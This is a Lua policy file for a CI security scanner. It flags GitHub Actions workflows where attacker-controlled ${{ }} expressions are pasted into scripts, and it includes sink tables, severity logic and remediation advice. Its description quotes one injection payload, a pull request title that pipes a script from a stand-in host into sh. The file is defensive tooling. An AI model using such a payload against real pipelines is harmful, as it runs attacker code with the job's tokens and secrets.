-- pipeline/template-injection: `${{ ... }}` that pastes attacker text into
-- code (a `run:` script, actions/github-script's `script:`, and the other
-- code-executing inputs CodeQL and zizmor know) before any interpreter sees
-- it.
--
-- Compatible with zizmor's template-injection audit (regular persona): the
-- same sinks, the same dataflow (`a || b` both, `a && b` the right side,
-- toJSON/format/join arguments, nothing that only feeds a comparison), the
-- same verdict per context kind, with mlgate.taint following env:, matrix,
-- inputs and step/job outputs to the text they carry. One finding per
-- expression, at the line of its `${{`; the worst context decides.

-- Inputs of actions that evaluate their value as code ("owner/repo" in
-- lower case -> input names). CodeQL's injection sinks
-- (github/codeql actions/ql/lib/ext, MIT) plus those zizmor adds.
local SINKS = {
  ["8398a7/action-slack"] = {"custom_payload"},
  ["actions/github-script"] = {"script"},
  ["appleboy/ssh-action"] = {"script"},
  ["azure/cli"] = {"inlinescript"},
  ["azure/powershell"] = {"inlinescript"},
  ["devorbitus/yq-action-output"] = {"cmd"},
  ["gautamkrishnar/blog-post-workflow"] = {"item_exec"},
  ["imjohnbo/issue-bot"] = {"body", "linked-comments-previous-issue-text",
                            "linked-comments-new-issue-text"},
  ["lucasbento/auto-close-issues"] = {"issue-close-message"},
  ["mikefarah/yq"] = {"cmd"},
  ["roots/issue-closer-action"] = {"issue-close-message", "pr-close-message"},
  ["sergeysova/jq-action"] = {"cmd"},
  ["skitionek/notify-microsoft-teams"] = {"overwrite"},
  ["tibdex/backport"] = {"body_template", "head_template", "labels_template",
                         "title_template"},
  ["amadevus/pwsh-script"] = {"script"},
  ["jannekem/run-python-script-action"] = {"script"},
  ["cardinalby/js-eval-action"] = {"expression"},
  ["addnab/docker-run-action"] = {"options", "run"},
}

-- How each input is read safely, for the message.
local SAFE_READ = {
  ["actions/github-script"] = "process.env.NAME",
  ["jannekem/run-python-script-action"] = "os.environ['NAME']",
  ["amadevus/pwsh-script"] = "$env:NAME",
  ["azure/powershell"] = "$env:NAME",
  ["cardinalby/js-eval-action"] = "env.NAME",
  ["azure/cli"] = "\"$NAME\"",
  ["mikefarah/yq"] = "strenv(NAME)",
  ["sergeysova/jq-action"] = "$ENV.NAME",
  ["appleboy/ssh-action"] = "\"$NAME\" (listed in the action's envs: input)",
  ["addnab/docker-run-action"] = "\"$NAME\" (passed with -e NAME in options:)",
}

local SEV_RANK = {info = 1, low = 2, medium = 3, high = 4, critical = 5}
local CONF_RANK = {low = 1, medium = 2, high = 3}

-- Verdict for one classified dataflow context: severity, confidence,
-- profile (nil = regular; false = nothing to report) and a reason.
local function judge(it)
  local c, kind, path = it.class, it.kind, it.path
  if kind == "computed" then
    return "info", "low", nil, "the value of a computed expression"
  end
  if kind == "secret" or kind == "status" or kind == "matrix-static" then
    return false
  end
  if kind == "input" then
    if c == "arbitrary" then return "high", "high", nil, "a string input its caller chooses" end
    if c == "structured" then return "medium", "high", nil, "an input its caller chooses" end
    return "low", "high", "pedantic", "a typed input (boolean, number or choice)"
  end
  if kind == "input-call" then
    if c == "arbitrary" then return "high", "medium", nil, "an input a caller fills with attacker text" end
    if c == "structured" then return "medium", "medium", nil, "an input a caller fills with attacker-chosen data" end
    if c == "fixed" then return "low", "high", "pedantic", "an input its callers fill with fixed values" end
    return "low", "low", nil, "a reusable workflow's string input (no caller in this repository shows its value)"
  end
  if kind == "input-dispatch" then
    return "low", "medium", nil, "a string input whoever dispatches the workflow (write access) chooses"
  end
  if kind == "input-undeclared" then
    return "low", "low", nil, "an input this file does not declare"
  end
  if kind == "env-static" then
    return "low", "high", "pedantic", "a static env value"
  end
  if kind == "env" or kind == "env-dynamic" or kind == "env-unknown" then
    if c == "arbitrary" then return "high", "high", nil, "an env value built from attacker text" end
    if c == "structured" then return "medium", "high", nil, "an env value built from attacker-chosen data" end
    return "low", "high", nil, "an env value set by an expression"
  end
  if kind == "matrix" or kind == "matrix-dynamic" then
    if c == "arbitrary" then return "high", "medium", nil, "a matrix value built from attacker text" end
    if c == "structured" then return "medium", "medium", nil, "a matrix value built from attacker-chosen data" end
    if c == "fixed" then return "low", "medium", nil, "a matrix value set by an expression" end
    return "medium", "medium", nil, "a matrix value set by an expression"
  end
  if kind == "step-output" or kind == "job-output" then
    if c == "arbitrary" then return "high", "medium", nil, "an output that carries attacker text" end
    if c == "structured" then return "medium", "medium", nil, "an output that carries attacker-chosen data" end
    return "low", "high", "pedantic", "an output with fixed content"
  end
  if kind == "output-unknown" then
    return "info", "low", nil, "an output whose content is not known"
  end
  -- contexts from the table
  if c == "arbitrary" then return "high", "high", nil, "text an outsider writes" end
  if c == "structured" then return "medium", "high", nil, "data an outsider chooses within a format" end
  if c == "fixed" then return "low", "high", "pedantic", "a value nobody outside controls" end
  -- unknown github.* keys: zizmor flags them as attacker-controlled
  if path and path:match("^github%.") then
    return "high", "high", nil, "a github context value not known to be safe"
  end
  return "info", "low", nil, "a context value not known to be safe"
end

local function better(a, b)
  -- a regular finding beats a pedantic one; then severity, then confidence
  if (a.profile == nil) ~= (b.profile == nil) then return a.profile == nil end
  if SEV_RANK[a.severity] ~= SEV_RANK[b.severity] then
    return SEV_RANK[a.severity] > SEV_RANK[b.severity]
  end
  return CONF_RANK[a.confidence] > CONF_RANK[b.confidence]
end

local function lower(s) return s and s:lower() end

local function sink_inputs(uses, extra)
  if not uses or uses.kind ~= "action" or not uses.owner or not uses.repo then return nil end
  if uses.subpath and uses.subpath ~= "" then return nil end
  local key = lower(uses.owner .. "/" .. uses.repo)
  local list = SINKS[key]
  local more = extra and extra[key]
  if not list and not more then return nil end
  local set = {}
  for _, n in ipairs(list or {}) do set[n] = true end
  if type(more) == "table" then
    for _, n in ipairs(more) do if type(n) == "string" then set[lower(n)] = true end end
  end
  return set, key
end

local function step_of(model, job, index)
  local steps = job and job.steps or model.steps or (model.runs and model.runs.steps)
  if type(steps) ~= "table" or not index then return nil end
  local st = steps[index]
  if st and st.index == index then return st end
  for _, s in ipairs(steps) do
    if s.index == index then return s end
  end
  return st
end

local function env_name(path)
  -- a readable variable name for the remediation hint: github.event.issue.title -> ISSUE_TITLE
  local p = (path or "VALUE"):gsub("^github%.event%.", ""):gsub("^github%.", "GITHUB_")
    :gsub("^inputs%.", ""):gsub("^env%.", ""):gsub("%*", "ANY"):gsub("[^%w]+", "_")
  p = p:upper():gsub("^_+", ""):gsub("_+$", "")
  if p == "" then p = "VALUE" end
  if #p > 40 then p = p:sub(-40):gsub("^_+", "") end
  return p
end

local function message(best, expr, sink_key, field_desc)
  local path = best.item.path
  local body = expr.text:gsub("^%s+", ""):gsub("%s+$", ""):gsub("%s+", " ")
  local shown = "${{ " .. body .. " }}"
  if #shown > 80 then shown = "${{ " .. (path or (body:sub(1, 60) .. "...")) .. " }}" end
  local var = env_name(path)
  local read = sink_key and (SAFE_READ[sink_key] or "the environment variable NAME") or "\"$NAME\""
  read = read:gsub("NAME", var)
  local via = ""
  if best.item.via and best.item.via ~= path then via = " (" .. best.item.via .. ")" end
  if best.profile then
    return ("%s, %s%s, is pasted into %s; nothing an outsider controls reaches it, but env: "
      .. "(%s) and %s are safer."):format(shown, best.reason, via, field_desc, var, read)
  end
  return ("%s, %s%s, is pasted into %s before it runs, so that text becomes code; pass it "
    .. "through env: (%s) and use %s."):format(shown, best.reason, via, field_desc, var, read)
end

return mlgate.policy {
  id = "pipeline/template-injection",
  title = "Attacker-controlled ${{ }} expressions must not be expanded into scripts",
  description = [[
GitHub replaces every `${{ ... }}` in a `run:` script, or in an input that
an action evaluates as code (actions/github-script `script:`, azure/cli
`inlineScript:`, mikefarah/yq `cmd:` and the other sinks CodeQL and zizmor
list), with its value before the shell or interpreter starts. When that
value is text an outsider writes, such as a pull request or issue title, a
comment, a commit message, a fork's branch name or an input a caller fills
with such text, a title like `"; curl -sSf https://evil.example/x | sh; #`
runs as code in the job, with its GITHUB_TOKEN and every secret in scope:
for ML pipelines that is the model registry token, the Hugging Face write
token, the cloud credentials of the training data bucket.

How much an outsider controls each value comes from mlgate.taint, which
follows zizmor's capability table and heuristics: free text is
"arbitrary" (high), GitHub-generated URLs, e-mail addresses and ref names
"structured" (medium), numbers, SHAs, ids, logins and secrets "fixed"
(reported only with --profile pedantic). `inputs.*` are followed to their
declaration: a composite action's inputs are high (as zizmor); a reusable
workflow's string inputs take the class of what its callers in the
repository pass in `with:` (low when no caller shows it); string inputs of
workflow_dispatch alone are low (whoever dispatches has write access);
boolean/number/choice inputs are pedantic; undeclared ones low. `env.*`
goes to the env: value that defines it (static: pedantic; otherwise the
worst of what it carries, at least low), `matrix.*` to its values, and
`steps.<id>.outputs.*` / `needs.<job>.outputs.*` to what the step writes to
$GITHUB_OUTPUT or the job's outputs: map (unknown: informational). Only
values that flow into the result count: `${{ github.event.issue.title ==
'x' }}` expands to true or false; through fromJSON() only attacker text
counts.

One finding per expression, at the line of its `${{`.]],
  remediation = [[
Pass the value through an environment variable, which the shell expands as
data, and quote it:

    - name: Label the training run
      env:
        PR_TITLE: ${{ github.event.pull_request.title }}
      run: |
        python train.py --run-name "$PR_TITLE"

For actions/github-script read `process.env.PR_TITLE` (set in the step's
`env:`), and for other script inputs the interpreter's environment lookup.
Prefer fixed values where they do the job (`github.event.pull_request.number`
instead of the title, `github.sha` instead of a branch name).]],
  gate = "pipeline",
  severity = "high",
  confidence = "high",
  atlas = {"AML.T0010.001", "AML.T0050", "AML.T0055", "AML.M0016"},
  aliases = {"catalog:INJ-EXPR", "zizmor:template-injection", "poutine:injection",
             "actionlint:expression", "scorecard:Dangerous-Workflow", "checkov:CKV_GHA_2"},
  references = {
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    "https://docs.zizmor.sh/audits/#template-injection",
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
  },
  files = {".github/workflows/*.{yml,yaml}", "**/action.{yml,yaml}"},
  params = {
    -- more code-executing inputs: {"owner/repo" = {"input", ...}}
    extra_sinks = {},
  },

  check = function(file, ctx)
    local m = mlgate.pipeline.load(file.path)
    if not m or (m.kind ~= "workflow" and m.kind ~= "action") then return end
    local extra = {}
    if type(ctx.params.extra_sinks) == "table" then
      for k, v in pairs(ctx.params.extra_sinks) do
        if type(k) == "string" then extra[k:lower()] = v end
      end
    end
    local taint = mlgate.taint
    local seen_keys = {}
    -- One finding per expression in the file: a step reached twice through
    -- YAML aliases has the same ${{ }} at the same offset; keep the worst.
    local out, at_offset = {}, {}

    for _, expr in ipairs(m.exprs or {}) do
      local field = expr.field
      if expr.fenced ~= false and (field == "run" or field == "with") then
        local job = expr.job and taint.job_by_id(m, expr.job) or nil
        local step = step_of(m, job, expr.step)
        local sink_key, field_desc
        local wanted = step ~= nil
        if wanted and field == "with" then
          local set, key = sink_inputs(step.uses, extra)
          wanted = set ~= nil and expr.key ~= nil and set[expr.key:lower()] == true
          sink_key = key
          field_desc = ("%s's %s input (run as code)"):format(
            tostring(step.uses and step.uses.raw):match("^[^@]*"), tostring(expr.key))
        else
          field_desc = "this run: script"
        end
        if wanted and step.run == nil and field == "run" then wanted = false end

        local items = wanted and taint.expression(expr.text, m, job, step) or nil
        if items then
          local best
          for _, it in ipairs(items) do
            local sev, conf, profile, reason = judge(it)
            if sev then
              local cand = {severity = sev, confidence = conf, profile = profile,
                            reason = reason, item = it}
              if not best or better(cand, best) then best = cand end
            end
          end
          if not best then
            -- zizmor's blanket pedantic finding: any expression in code is a smell
            best = {severity = "low", confidence = "high", profile = "pedantic",
                    reason = "a value", item = {path = nil}}
          end
          local contexts
          if #items > 1 then
            contexts = {}
            for _, it in ipairs(items) do
              contexts[#contexts + 1] = {path = it.path or "(computed)", class = it.class,
                                         kind = it.kind}
            end
          end
          local key = (expr.route or "") .. "|" .. expr.text
          local n = (seen_keys[key] or 0) + 1
          seen_keys[key] = n
          if n > 1 then key = key .. "#" .. n end
          local finding = {
            message = message(best, expr, sink_key, field_desc),
            line = expr.line, column = expr.col,
            end_line = expr.end_line, end_column = expr.end_col,
            severity = best.severity, confidence = best.confidence,
            profile = best.profile,
            key = key,
            details = {job = expr.job, step = expr.step, input = expr.key,
                       context = best.item.path, class = best.item.class,
                       kind = best.item.kind, via = best.item.via ~= best.item.path
                       and best.item.via or nil, contexts = contexts},
          }
          local prev = expr.offset and at_offset[expr.offset]
          if not prev then
            out[#out + 1] = {finding, best}
            if expr.offset then at_offset[expr.offset] = #out end
          elseif better(best, out[prev][2]) then
            out[prev] = {finding, best}
          end
        end
      end
    end
    for _, f in ipairs(out) do ctx:fail(f[1]) end
  end,
}
